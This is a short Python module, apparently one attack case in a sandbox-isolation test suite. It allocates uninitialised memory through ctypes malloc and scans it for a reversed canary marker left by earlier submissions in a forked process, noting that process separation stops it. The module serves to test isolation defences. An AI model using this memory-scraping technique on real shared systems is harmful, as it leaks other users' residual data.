"""Reads freed memory for what an earlier submission of the class may have left in the process it was forked from."""
# stopped by: process split
import ctypes

NEEDLE = b"-yranac"[::-1]


def attack():
    libc, found = ctypes.CDLL(None), set()
    libc.malloc.restype, libc.malloc.argtypes = ctypes.c_void_p, [ctypes.c_size_t]
    for size in (24, 40, 56, 72, 104, 136, 264, 520, 1032, 4104, 33_000, 120_000):
        for _ in range(200):
            data = ctypes.string_at(libc.malloc(size), size)
            if NEEDLE in data:
                found.add(data[data.find(NEEDLE) :][:80].decode("latin-1"))
    return "\n".join(found)
